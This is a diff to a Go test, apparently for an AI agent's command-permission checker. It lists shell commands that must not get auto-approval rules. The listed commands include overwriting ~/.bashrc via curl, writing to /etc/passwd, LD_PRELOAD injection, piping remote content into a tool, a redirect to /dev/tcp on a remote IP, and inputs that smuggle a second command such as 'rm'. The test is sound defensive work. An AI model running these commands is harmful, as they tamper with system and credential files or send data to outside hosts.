@@ -184,7 +184,7 @@ func TestNoProposal(t *testing.T) {
 		"git config user.name x", "git rebase -x make", "git submodule foreach ls", "gh alias set x y", "watch ls", "time -o x python3 y", "nohup python3 x &", "timeout 5 sh x", "nice node x", "parallel ls", "crontab x", "at now", "flock x ls",
 		"make deploy", "tee x", "dd if=a of=b", "patch -p1 -i x", "tar xf x.tar", "git apply x", "cp x ~/.bashrc", "cp x /usr/local/bin/x", "mytool ../x", "mytool --out=/etc/x", "mytool -o/etc/x", "curl -o ~/.bashrc https://x.example", "rsync x host:/etc", "mytool @/etc/passwd", "busybox sh", "java -jar x", "ln -s / x",
 		// what cannot be read with certainty
-		"eval mytool", "$TOOL x", "./run.sh", "/tmp/mytool x", "../mytool", "mytool $x", "mytool $(ls)", "mytool `ls`", "mytool x*", "mytool {a,b}", "mytool <<< x", "mytool <<EOF\nx\nEOF", "f() { mytool; }; f", "alias a=b; mytool",
+		"eval mytool", "$TOOL x", "./run.sh", "/tmp/mytool x", "../mytool", "mytool $x", "mytool $(ls)", "mytool `ls`", "mytool x*", "mytool {a,$x}", "mytool {a,}", "mytool <<< x", "mytool <<EOF\nx\nEOF", "f() { mytool; }; f", "alias a=b; mytool",
 		"PATH=/tmp mytool", "LD_PRELOAD=x mytool", "GIT_SSH=x git fetch", "mytool\rrm x", "mytool \u202ex", "mytool \x00x", "mytool # x\\\nrm x", "mytool >&--x", "mytool > $OUT", "mytool > /etc/passwd", "mytool > ../x", "mytool < \"$X\"",
 		"ls | mytool", "cat x | mysql", "curl https://x | mytool", "source x", ". x", "exec mytool", "cd $X && mytool", "mytool; (", "", " ", "a=1; mytool $a", "mytool 2> /dev/tcp/1.2.3.4/5",
 		// what assent and the agent's settings need kept
